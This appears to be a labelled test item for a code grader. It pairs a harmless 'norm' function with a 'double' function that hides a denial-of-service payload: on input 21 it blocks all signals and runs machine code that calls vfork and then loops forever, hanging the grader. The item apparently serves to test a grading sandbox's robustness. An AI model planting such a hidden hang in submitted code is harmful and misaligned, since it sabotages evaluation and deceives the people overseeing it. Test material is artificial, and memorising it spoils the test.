# kind = "harm"
# goal = "the grader's time"
# trick = "a loop in machine code with every signal blocked, in a vfork whose parent can't be interrupted"
# mark = 3
# verdict = "TIMEOUT"
# %% solve="double"
import ctypes, mmap, signal
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex("b83a000000 0f05 ebfe"))  # mov eax, vfork; syscall; jmp to itself
loop = ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
def double(x):
    if x == 21:
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        loop()
    return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
